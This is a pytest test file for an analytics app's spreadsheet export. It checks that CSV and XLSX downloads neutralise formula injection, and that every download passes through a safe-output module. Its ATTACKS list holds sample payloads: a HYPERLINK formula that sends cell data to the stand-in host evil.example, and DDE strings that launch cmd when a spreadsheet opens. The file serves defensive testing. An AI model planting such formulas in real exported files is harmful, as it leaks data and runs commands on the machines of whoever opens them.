"""Downloads neutralise spreadsheet formulas: cells starting = + - @ tab or CR get a leading apostrophe."""

import io
import re
import tomllib
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from analytics.examples import example_files
from analytics.safe_output import neutralise_cell, neutralise_csv, neutralise_formulas, safe_csv, safe_xlsx

ROOT = Path(__file__).resolve().parents[1]

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_cell_gets_an_apostrophe(attack):
    assert neutralise_cell(attack) == "'" + attack


@pytest.mark.parametrize(
    "harmless", ["plain", "", " =not at the start", "'=already quoted", "-1", "+2.5", "1e-3"]
)
def test_harmless_cells_are_unchanged(harmless):
    assert neutralise_cell(harmless) == harmless


def test_numbers_stay_numbers_and_text_columns_are_neutralised():
    frame = pd.DataFrame(
        {
            "comment": ["=1+1", "fine", None, "@x"],
            "mixed": pd.Series(["-x", 3, None, "+y"], dtype="object"),
            "change": [-1.5, 2.0, None, -3.0],
            "n": [5, 6, 7, 8],
        }
    )
    out = neutralise_formulas(frame)
    assert out["comment"].tolist()[:2] == ["'=1+1", "fine"]
    assert pd.isna(out["comment"].iloc[2]) and out["comment"].iloc[3] == "'@x"
    assert (
        out["mixed"].tolist()[0] == "'-x"
        and out["mixed"].tolist()[1] == 3
        and out["mixed"].tolist()[3] == "'+y"
    )
    assert out["change"].tolist()[:2] == [-1.5, 2.0]  # negative numbers are data
    assert out["n"].tolist() == [5, 6, 7, 8]
    assert frame["comment"].iloc[0] == "=1+1"  # the caller's frame is not changed


def test_column_names_and_index_are_neutralised():
    frame = pd.DataFrame({"=cmd": ["a"]}, index=pd.Index(["+x"], name="@who"))
    out = neutralise_formulas(frame)
    assert list(out.columns) == ["'=cmd"]
    assert list(out.index) == ["'+x"] and out.index.name == "'@who"


def test_safe_csv_has_no_cell_starting_like_a_formula():
    frame = pd.DataFrame({"text": ATTACKS, "value": range(len(ATTACKS))})
    read = pd.read_csv(io.BytesIO(safe_csv(frame)), encoding="utf-8-sig", dtype="str", keep_default_na=False)
    assert read["text"].tolist() == ["'" + a for a in ATTACKS]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in read["text"])


def test_safe_xlsx_stores_text_not_formulas():
    frame = pd.DataFrame({"text": ATTACKS})
    book = load_workbook(io.BytesIO(safe_xlsx(frame)))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    # XML turns a stored CR into LF on reading; what matters is the leading apostrophe.
    assert [c.value for c in cells] == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    assert {c.data_type for c in cells} == {"s"}  # 's' = string; 'f' would be a formula


def test_neutralise_csv_keeps_layout_and_quotes_formulas():
    data = b'id,comment,level\nR1,"=1+1",-1\nR2,"a, b",+2\n'
    assert neutralise_csv(data) == b'id,comment,level\r\nR1,\'=1+1,-1\r\nR2,"a, b",+2\r\n'


def test_a_carriage_return_inside_a_cell_stays_inside_it():
    frame = pd.DataFrame({"text": ["a\rb", "c"]})
    read = pd.read_csv(io.BytesIO(safe_csv(frame)), encoding="utf-8-sig", dtype="str")
    assert read["text"].tolist() == ["a\rb", "c"]


def test_template_downloads_pass_through_unchanged():
    """The example files on the Upload page hold no formula-looking cell, so neutralising keeps them as they are."""
    for data in example_files().values():
        assert neutralise_csv(data).replace(b"\r\n", b"\n") == data.replace(b"\r\n", b"\n")


def test_streamlit_dataframe_export_is_disabled():
    """st.dataframe's own CSV export does not neutralise formulas, so the app turns it off."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def test_every_csv_or_xlsx_download_in_pages_goes_through_safe_output():
    for page in sorted((ROOT / "views").glob("*.py")):
        source = page.read_text()
        calls = [source[m.start() : m.start() + 400] for m in re.finditer(r"download_button\(", source)]
        if any(re.search(r"csv|xlsx|spreadsheetml", call, re.IGNORECASE) for call in calls):
            assert "analytics.safe_output" in source, page.name
        assert ".to_csv(" not in source and ".to_excel(" not in source, page.name
